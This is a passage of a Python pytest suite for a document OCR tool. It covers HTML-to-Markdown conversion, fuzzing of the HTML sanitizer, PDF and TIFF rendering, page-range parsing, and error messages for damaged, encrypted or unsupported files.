    assert table[3][0] == "*star* _under_ `tick`"  # escaped, not formatting
    assert len(table[0]) == qhtml.MAX_SPAN  # colspan=99999 capped


def test_markdown_inline_and_escaping():
    html = """<h2>Title with <b>bold</b></h2><p><strong>B</strong> <em>I</em> <code>a`b</code> <s>gone</s>
    x<sub>2</sub> e<sup>x</sup> <a href="https://example.com">link text</a></p>
    <p>1. not a list</p><p>+ not a list</p><p># not a heading</p><p>&gt; not a quote</p>
    <p>price $5 &amp; 10% of a_b * c &lt;tag&gt; [x](y) ~z~</p><p>line one<br>line two</p>
    <p class="formula">\\[ a^2 + b^2 = c^2 \\]</p><div class="formula"><img/><div>\\(x\\)</div></div>
    <pre>def f():\n    return 1</pre><blockquote><p>quoted</p><p>twice</p></blockquote><hr>
    <img data-bbox="1 2 3 4"><figure><img><figcaption>Cap</figcaption></figure><!-- a comment -->"""
    assert markdown.html_to_markdown(html) == """\
## Title with **bold**

**B** *I* ``a`b`` ~~gone~~ x<sub>2</sub> e<sup>x</sup> link text

1\\. not a list

\\+ not a list

\\# not a heading

\\> not a quote

price \\$5 & 10% of a\\_b \\* c \\<tag> \\[x\\](y) \\~z\\~

line one\\
line two

$$
a^2 + b^2 = c^2
$$

$$
x
$$

```
def f():
    return 1
```

> quoted
>
> twice

---

<!-- Image (1, 2, 3, 4) -->

<!-- Image -->

Cap
"""


@pytest.mark.parametrize(("html", "expected"), [
    ("<p>Energy $E=mc^2$ holds.</p>", "Energy $E=mc^2$ holds.\n"),
    ("<p>Let $x_i$ and $y_{j}$ be $n$-vectors.</p>", "Let $x_i$ and $y_{j}$ be $n$-vectors.\n"),
    ("<p>Sum $$\\sum_i a_i$$ and \\(b^2\\) inline.</p>", "Sum $$\\sum_i a_i$$ and $b^2$ inline.\n"),
    ("<h2>Case $k=1$</h2>", "## Case $k=1$\n"),
    ("<table><tr><td>$a_b$</td></tr></table>", "| $a_b$ |\n| --- |\n"),
    ("<p>If $a&lt;b$ then.</p>", "If $a\\lt b$ then.\n"),  # no "<" left to open HTML
    # prices are not math: a space inside the dollars, a digit after the closing one, a lone dollar
    ("<p>It costs $5 and $10 now.</p>", "It costs \\$5 and \\$10 now.\n"),
    ("<p>From $5 to $ 10.</p>", "From \\$5 to \\$ 10.\n"),
    ("<p>$x$5</p>", "\\$x\\$5\n"),
])
def test_inline_latex_in_paragraphs_stays_math(html, expected):
    """Regression: QwenVL writes inline LaTeX straight into paragraph text ($x_i$); every $ was escaped to \\$ and
    every _ to \\_, so the Markdown showed the source instead of the formula."""
    assert markdown.html_to_markdown(html) == expected


def test_markdown_of_non_html_and_empty():
    assert markdown.html_to_markdown("") == ""
    assert markdown.html_to_markdown("The page shows *a cat*.") == "The page shows \\*a cat\\*.\n"
    assert markdown.html_to_markdown("<html><head><title>t</title><style>p{}</style></head></html>") == ""
    # A <body> inside an unclosed <head> (html.parser has no implied end tags) is still converted.
    assert markdown.html_to_markdown("<html><head><meta charset=utf-8><body><p>kept</p>") == "kept\n"


def test_html_to_text():
    text = markdown.html_to_text(qhtml.strip_fences(PAGE2_QWEN3))
    assert text.splitlines() == [
        "2 Results", "Table 1 compares models; higher is better.", "Model\tScore", "DocVQA\tChartQA",
        "Qwen2.5-VL | 7B\t95.7\t87.3", "Baseline\tn/a", "Year\tSales", "2024\t12", "* Measured on the test split.",
    ]
    assert markdown.html_to_text("<p>a<br>b</p><script>x</script>") == "a\nb"
    assert markdown.html_to_text("plain words") == "plain words"


# --------------------------------------------------------------------------------------------------
# Arbitrary input never raises
# --------------------------------------------------------------------------------------------------

FRAGMENTS = ["<div", "<div class='formula'", " data-bbox='1 2 3 4'", ' data-bbox="9,9,1,1"', ">", "</div>", "<p>",
             "</p>", "<table>", "<tr>", "<td colspan=99999>", "<td rowspan=0>", "</td>", "</table>", "<ul>", "<li>",
             "<ol start=x>", "<img", "<br/>", "<math>", "</math>", "<script>", "</script>", "<style>", "<svg>",
             "<!--", "-->", "<![CDATA[", "]]>", "<!", "<?", "&#", "&amp;", "```html\n", "```", "<think>",
             "</think>", "$$", "|", "*", "_", "`", "\n", " ", "<pre>", "<span class=formula>", "<h2>", "</h2>",
             "<html>", "<body>", "<head>", "<a href='#x'>", "<caption>", "x", "é", "\x00", "<table><tr><td>"]
html_soup = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=40).map("".join)
FAMILY_NAMES = ["qwen2_vl", "qwen2_5_vl", "qwen3_vl", "qwen3_5", "qwen3_5_moe"]


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(st.text(max_size=300), html_soup), family=st.sampled_from(FAMILY_NAMES))
def test_arbitrary_text_never_raises(text, family):
    blocks = layout.extract_layout(text, family=family, input_size=(56, 84), image_size=(100, 150))
    for b in blocks:
        if b.box is not None:
            x1, y1, x2, y2 = b.box
            assert 0 <= x1 <= x2 <= 100 and 0 <= y1 <= y2 <= 150
    assert isinstance(markdown.html_to_markdown(text), str)
    assert isinstance(markdown.html_to_text(text), str)
    assert isinstance(qhtml.strip_fences(text), str)
    qhtml.looks_like_html(text)
    out = qhtml.sanitize_html(text)
    assert_inert(out)
    # Not a fixed point in general (nh3 can emit <h1><h1></h1></h1>, which re-parses as siblings), but a
    # re-parse can only rearrange allowed elements: the second pass is as inert as the first.
    assert_inert(qhtml.sanitize_html(out))


# --------------------------------------------------------------------------------------------------
# Documents: PDF, TIFF, images, page ranges, limits and bad files
# --------------------------------------------------------------------------------------------------

COLORS = [(220, 30, 30), (30, 200, 30), (30, 30, 220), (200, 200, 30)]


def _near(a, b, tol=12):
    return all(abs(x - y) <= tol for x, y in zip(a, b, strict=True))


def make_pdf(path: Path, sizes: list[tuple[int, int]], resolution: float = 72.0) -> Path:
    """A PDF whose page i is a flat colour; at 72 'dpi' a page of w x h pixels is w x h points."""
    pages = [Image.new("RGB", s, COLORS[i % len(COLORS)]) for i, s in enumerate(sizes)]
    pages[0].save(path, save_all=True, append_images=pages[1:], resolution=resolution)
    return path


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    s, j = list(range(256)), 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def make_encrypted_pdf(path: Path, user_password: bytes = b"secret") -> Path:
    """A genuine RC4-40 (Standard security handler, R2) PDF that needs `user_password` to open."""
    perms, file_id = -44, bytes(range(16))
    owner_key = hashlib.md5((b"owner" + _PAD)[:32]).digest()[:5]
    o = _rc4(owner_key, (user_password + _PAD)[:32])
    key = hashlib.md5((user_password + _PAD)[:32] + o + struct.pack("<i", perms) + file_id).digest()[:5]
    u = _rc4(key, _PAD)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (o.hex().encode(), u.hex().encode(),
                                                                             perms)]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Encrypt 4 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, file_id.hex().encode(), file_id.hex().encode(), xref)
    path.write_bytes(bytes(out))
    return path


@pytest.fixture(scope="module")
def doc_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("docs")
    make_pdf(d / "three.pdf", [(144, 216), (216, 144), (144, 144)])
    make_pdf(d / "sixty.pdf", [(20, 30)] * 60)
    make_pdf(d / "poster.pdf", [(100, 50)], resolution=1.0)  # 100 x 50 inches
    make_encrypted_pdf(d / "locked.pdf")
    (d / "empty.pdf").write_bytes(b"")
    (d / "notes.pdf").write_text("These are meeting notes, saved as text and renamed .pdf.\n" * 20)
    good = (d / "three.pdf").read_bytes()
    (d / "truncated.pdf").write_bytes(good[: len(good) // 3])
    (d / "garbage.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    (d / "report.docx").write_bytes(b"PK\x03\x04 not really a docx")
    (d / "fake.png").write_text("not a picture")
    frames = [Image.new("RGB", (120, 80), COLORS[0]), Image.new("RGBA", (60, 90), (0, 0, 0, 0)),
              Image.new("L", (50, 50), 128)]
    frames[0].save(d / "scan.tiff", save_all=True, append_images=frames[1:])
    Image.new("I;16", (40, 30), 65535).save(d / "deep.tif")
    Image.new("RGB", (64, 48), COLORS[2]).save(d / "photo.png")
    return d


def test_render_pdf_pages_in_order_at_dpi(doc_dir):
    images = list(docs.render_pdf(doc_dir / "three.pdf", dpi=150))
    assert [im.size for im in images] == [(300, 450), (450, 300), (300, 300)]  # points * 150 / 72
    assert all(im.mode == "RGB" for im in images)
    for im, color in zip(images, COLORS, strict=False):
        assert _near(im.getpixel((im.width // 2, im.height // 2)), color)
    assert [im.size for im in docs.render_pdf(doc_dir / "three.pdf", dpi=72, pages=[2, 0])] == [(144, 144),
                                                                                                (144, 216)]


def test_render_pdf_is_lazy(doc_dir):
    gen = docs.render_pdf(doc_dir / "sixty.pdf", dpi=72)
    first = next(gen)
    assert first.size == (20, 30)
    gen.close()  # closing early releases the document (finally: runs)


@pytest.mark.timeout(120)  # a hang guard: rendering 450 MP at full size first would take far longer
def test_render_pdf_downscales_enormous_pages(doc_dir):
    (im,) = docs.render_pdf(doc_dir / "poster.pdf", dpi=300, max_pixels=1_000_000)
    assert im.width * im.height <= 1_000_000
    assert abs(im.width / im.height - 2.0) < 0.01 and im.width > 1400
    (im,) = docs.render_pdf(doc_dir / "poster.pdf", dpi=300)  # 30000 x 15000 px at 300 dpi: 450 MP
    assert im.width * im.height <= docs.MAX_PAGE_PIXELS
    assert im.width * im.height > 0.99 * docs.MAX_PAGE_PIXELS


@pytest.mark.parametrize(("spec", "n", "expected"), [
    (None, 3, [0, 1, 2]), ("all", 3, [0, 1, 2]), ("  ", 2, [0, 1]), ("1-5", 9, [0, 1, 2, 3, 4]),
    ("2,4,7-9", 10, [1, 3, 6, 7, 8]), ("3-", 5, [2, 3, 4]), ("-2", 5, [0, 1]), ("5, 1, 5", 5, [0, 4]),
    ("2 - 3", 4, [1, 2]), ("1;3", 3, [0, 2]), ("7", 7, [6]),
])
def test_parse_page_range(spec, n, expected):
    assert docs.parse_page_range(spec, n) == expected


@pytest.mark.parametrize(("spec", "n", "message"), [
    ("1-12", 10, "asks for page 12, but the document has 10 pages"),
    ("4", 3, "has 3 pages"),
    ("2", 1, "has 1 page."),
    ("0", 5, "numbered from 1"),
    ("5-3", 9, "runs backwards; write it as 3-5"),
    ("one", 5, "'one' is not a page number"),
    ("1.5", 5, "not a page number"),
    ("1--3", 5, "not a page number"),
    ("²", 5, "not a page number"),  # str.isdigit() accepts it, int() does not
    (",", 5, "selects no pages"),
    (None, 0, "no pages"),
])
def test_parse_page_range_errors(spec, n, message):
    with pytest.raises(UserError, match=re.escape(message)):
        docs.parse_page_range(spec, n)


def test_load_pdf_document_with_page_range(doc_dir):
    pages = list(docs.load_document(doc_dir / "three.pdf", dpi=72, pages="2-3"))
    assert [(p.page_number, p.n_pages, p.source_name, p.image.size) for p in pages] == [
        (2, 3, "three.pdf", (216, 144)), (3, 3, "three.pdf", (144, 144))]
    assert docs.count_pages(doc_dir / "three.pdf") == 3


def test_pdf_page_limit(doc_dir):
    with pytest.raises(UserError, match=r"'sixty\.pdf' is too long: it has 60 pages, over the limit of 50 pages "
                                        r"per job\. Choose a page range such as 1-50\."):
        docs.load_document(doc_dir / "sixty.pdf")
    with pytest.raises(UserError, match="the selected range has 51 pages"):
        docs.load_document(doc_dir / "sixty.pdf", pages="10-60")
    pages = docs.load_document(doc_dir / "sixty.pdf", pages="11-60", dpi=72)  # exactly 50: fine
    assert next(pages).page_number == 11
    with pytest.raises(UserError, match="limit of 2 pages"):
        docs.load_document(doc_dir / "three.pdf", max_pages=2)


@pytest.mark.parametrize("dpi", [10, 49, 301, 1200, float("nan")])
def test_dpi_limits(doc_dir, dpi):
    with pytest.raises(UserError, match="supported range 50-300 dpi"):
        docs.load_document(doc_dir / "three.pdf", dpi=dpi)
    with pytest.raises(UserError, match="supported range"):
        docs.render_pdf(doc_dir / "three.pdf", dpi=dpi)


@pytest.mark.parametrize(("name", "message"), [
    ("locked.pdf", "PDF 'locked.pdf' is password-protected"),
    ("empty.pdf", "Document 'empty.pdf' is empty"),
    ("notes.pdf", "File 'notes.pdf' is not a PDF"),
    ("truncated.pdf", "PDF 'truncated.pdf' is damaged or not a valid PDF"),
    ("garbage.pdf", "PDF 'garbage.pdf' is damaged or not a valid PDF"),
    ("report.docx", "'report.docx' has an unsupported type '.docx'; supported: PDF, PNG, JPEG, WebP, BMP, TIFF"),
    ("missing.pdf", "'missing.pdf' does not exist"),
    ("fake.png", "File 'fake.png' is not an image this app can read"),
])
def test_bad_documents_give_clear_errors(doc_dir, name, message):
    with pytest.raises(UserError, match=re.escape(message)):
        docs.load_document(doc_dir / name)
    with pytest.raises(UserError, match=re.escape(message)):
        docs.count_pages(doc_dir / name)


def test_encrypted_fixture_is_really_encrypted(doc_dir):
    """The fixture opens with its password, so the error above is about the password, not a broken file."""
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(doc_dir / "locked.pdf"), password="secret")
    assert len(doc) == 1
    doc.close()


def test_multipage_tiff_every_frame(doc_dir):
    pages = list(docs.load_document(doc_dir / "scan.tiff"))
    assert [(p.page_number, p.n_pages, p.image.size, p.image.mode) for p in pages] == [
        (1, 3, (120, 80), "RGB"), (2, 3, (60, 90), "RGB"), (3, 3, (50, 50), "RGB")]
    assert _near(pages[0].image.getpixel((5, 5)), COLORS[0])
    assert pages[1].image.getpixel((5, 5)) == (255, 255, 255)  # transparent frame on white paper
    assert pages[2].image.getpixel((5, 5)) == (128, 128, 128)
    assert [p.page_number for p in docs.load_document(doc_dir / "scan.tiff", pages="3,1")] == [1, 3]
    assert docs.count_pages(doc_dir / "scan.tiff") == 3
    with pytest.raises(UserError, match="limit of 2 pages"):
        docs.load_document(doc_dir / "scan.tiff", max_pages=2)


def test_single_images(doc_dir):
    (page,) = docs.load_document(doc_dir / "photo.png")
    assert (page.page_number, page.n_pages, page.source_name, page.image.size) == (1, 1, "photo.png", (64, 48))
    with pytest.raises(UserError, match="asks for page 2, but the document has 1 page"):
        docs.load_document(doc_dir / "photo.png", pages="2")
    (deep,) = docs.load_document(doc_dir / "deep.tif")
    assert deep.image.mode == "RGB" and deep.image.size == (40, 30)


def test_tiff_frames_respect_the_image_pixel_limit(doc_dir):
    # frame 3 is 2,500 px, frame 1 is 9,600 px
    pages = docs.load_document(doc_dir / "scan.tiff", pages="3,1", max_frame_pixels=5_000)
    with pytest.raises(UserError, match=r"^Page 1 of TIFF 'scan\.tiff' is 120x80 = 0\.0 MP, over the page-image "
                                        r"limit .*QVL_MAX_PAGE_SOURCE_PIXELS"):
        next(pages)


def test_sixteen_bit_frames_keep_their_brightness(doc_dir):
    frames = [Image.new("I;16", (40, 30), v) for v in (65535, 32768, 0)]
    frames[0].save(doc_dir / "deep3.tif", save_all=True, append_images=frames[1:])
    values = [p.image.getpixel((1, 1)) for p in docs.load_document(doc_dir / "deep3.tif")]
    assert values == [(255, 255, 255), (128, 128, 128), (0, 0, 0)]
